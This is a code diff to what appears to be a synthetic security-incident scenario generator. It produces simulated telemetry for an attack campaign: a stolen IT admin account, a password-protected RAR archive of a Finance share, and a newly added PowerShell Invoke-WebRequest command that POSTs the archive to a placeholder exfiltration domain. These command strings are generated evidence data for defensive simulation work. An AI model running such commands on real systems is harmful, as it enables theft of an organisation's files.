@@ -123,7 +123,8 @@ export const campaignRecords = (ctx: ScenarioContext, index: number, target?: nu
   const u0 = recipients[0] ?? user(0);
   const h0Index = u0.index % size.workstations;
   const h0 = workstation(h0Index);
-  const admin = adminAccount(rng.int(0, size.admins - 1));
+  // The stolen account: an IT admin's (adm-...) whose credentials were cached on the first workstation.
+  const admin = adminAccount(rng.int(4, Math.max(4, size.admins - 1)));
   const dc = server(DC_INDEX + (rng.chance(0.8) ? 0 : 1));
 
   // Attacker infrastructure, fresh per campaign.
@@ -325,6 +326,16 @@ export const campaignRecords = (ctx: ScenarioContext, index: number, target?: nu
       dev(last, tEx, ['compromised']),
       usr(admin, tEx, 'sam'),
       processEvidence({ image: BIN.rar, parent: BIN.cmd, commandLine: `Rar.exe a -hp${rng.hex(8)} ${rarArchive} \\\\${last.name}\\Shares\\Finance\\*`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(admin, 'sam'), started: tEx }, last, { created: tEx, roles: [], verdict: 'suspicious' }),
+    ]);
+  }
+  if (rng.chance(0.6)) {
+    const at = tEx + rng.int(0, 5) * MIN;
+    sink.graph(D.exfilArchive, at, at + rng.int(1, 20) * MIN, [
+      dev(last, at, ['compromised']),
+      usr(admin, at, 'sam'),
+      processEvidence({ image: BIN.powershell, parent: BIN.cmd, commandLine: `powershell.exe -c "Invoke-WebRequest -Method POST -InFile ${rarArchive} -Uri http://${exfilDomain}/upload"`, pid: rng.int(1000, 20000), parentPid: rng.int(1000, 20000), account: userAccount(admin, 'sam'), started: at }, last, { created: at, roles: [], verdict: 'suspicious' }),
+      ipEvidence(exfilIp, { created: at, roles: ['destination'], verdict: 'suspicious' }),
+      urlEvidence(`http://${exfilDomain}/upload`, { created: at, roles: ['destination'], verdict: 'suspicious' }),
     ]);
   }
   const exfilSrc = rng.chance(0.5) ? last.ip : PROXY_IP;
